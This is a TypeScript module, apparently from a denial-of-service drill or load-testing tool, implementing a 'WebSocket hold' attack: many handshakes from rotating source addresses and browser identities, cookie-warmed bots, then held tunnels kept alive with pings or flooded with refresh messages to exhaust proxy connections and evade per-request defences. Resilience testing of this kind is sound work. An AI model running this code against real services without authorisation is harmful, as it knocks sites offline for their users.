import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import { openTargetSocket, targetScheme } from './tls-target.js';
import { recordAnswer } from './metrics.js';
import { randomToken } from './rng.js';
import { holdConnections, type RunningSlow, type SlowEnv, type SlowSpec } from './slow.js';
import { drillLocalPorts } from './local-ports.js';
import { browseFirst, type BrowsingBot, type WarmupReport } from './warmup.js';

/**
 * A masked client ping frame (RFC 6455 §5.5.2: FIN, opcode 0x9, masked as every client frame must
 * be, §5.3) with a 4-byte payload: what keeps a tunnel from being closed as idle.
 */
function pingFrame(): Buffer {
  return maskedFrame(0x9, randomBytes(4));
}

/** The live page's refresh as a client sends it: a masked text frame (opcode 0x1, RFC 6455 §5.6). */
const REFRESH = Buffer.from('{"type":"refresh"}');
function refreshFrame(): Buffer {
  return maskedFrame(0x1, REFRESH);
}

/** One unfragmented client frame (FIN set) with a payload under 126 bytes, masked (§5.3). */
function maskedFrame(opcode: number, payload: Buffer): Buffer {
  const mask = randomBytes(4);
  const frame = Buffer.alloc(2 + 4 + payload.length);
  frame[0] = 0x80 | opcode;
  frame[1] = 0x80 | payload.length;
  mask.copy(frame, 2);
  for (let i = 0; i < payload.length; i++) frame[6 + i] = payload[i]! ^ mask[i % 4]!;
  return frame;
}

/**
 * WebSocket hold: each connection completes a WebSocket handshake (RFC 6455 §4.1) on a route that
 * accepts upgrades and then only sends a ping every interval — a connection held on both sides of
 * a proxy (the client's and the upstream's descriptors) for as long as the attacker likes, which a
 * per-request defence never sees again after the handshake. "Sent" counts handshakes; answers are
 * their status (101 when the tunnel opened). With `spec.messages`, a message flood: every interval
 * each tunnel sends the application a message it must act on (the live page's refresh).
 */
export function startWebSocketHold(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const opened = new WeakSet<Socket>();
  let messagesSent = 0;
  // With a warm-up, each source is a bot that browsed first: connection idx is its source's, with its jar.
  const bots: BrowsingBot[] = env.addresses.map((address, i) => ({ index: i, address, identity: env.identities[i % env.identities.length]!, cookies: new Map<string, string>() }));
  const warm: WarmupReport | undefined = spec.warmup ? { pages: 0, ok: 0, botsWithCookies: 0 } : undefined;
  if (spec.warmup) {
    void browseFirst(spec.warmup, spec.startS, { ...env, origin: `${targetScheme(env)}://${env.hostHeader}` }, bots, warm!)
      .then(() => { warm!.botsWithCookies = bots.filter((b) => b.cookies.size > 0).length; });
  }
  const h = holdConnections(spec, env, {
    open(idx, address) {
      const bot = spec.warmup ? bots[idx % bots.length] : undefined;
      const id = bot?.identity ?? env.identities[idx % env.identities.length]!;
      const cookie = bot && bot.cookies.size > 0 ? `Cookie: ${[...bot.cookies].map(([k, v]) => `${k}=${v}`).join('; ')}` : undefined;
      const { socket, ready } = openTargetSocket(env, address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {});
      socket.setNoDelay(true);
      socket.once(ready, () => socket.write([
        `GET ${spec.path}${randomToken(env.rng, 10)} HTTP/1.1`,
        `Host: ${env.hostHeader}`,
        `User-Agent: ${id.userAgent}`,
        'Upgrade: websocket',
        'Connection: Upgrade',
        `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
        'Sec-WebSocket-Version: 13',
        `Origin: ${targetScheme(env)}://${env.hostHeader}`,
        ...(cookie ? [cookie] : []),
        '', '',
      ].join('\r\n')));
      socket.on('data', (buf: Buffer) => {
        if (opened.has(socket)) return; // frames from the server: read and dropped
        opened.add(socket);
        const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
        recordAnswer(h.counters, env.now(), m ? m[1]! : 'data');
        // A refusal is an HTTP answer: the attacker closes and the pool opens another.
        if (m?.[1] !== '101') socket.destroy();
      });
      socket.once('close', () => { if (!opened.has(socket) && h.held.has(socket)) recordAnswer(h.counters, env.now(), 'closed'); });
      return socket;
    },
    trickle(socket) {
      if (!opened.has(socket)) return;
      if (!spec.messages) { socket.write(pingFrame()); return; }
      socket.write(refreshFrame());
      messagesSent++;
    },
  });
  return {
    counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done,
    // A getter (read at the end of the run), not a spread: a spread would copy today's 0.
    get messagesSent() { return spec.messages ? messagesSent : undefined; },
    ...(warm ? { warmup: warm } : {}),
  };
}
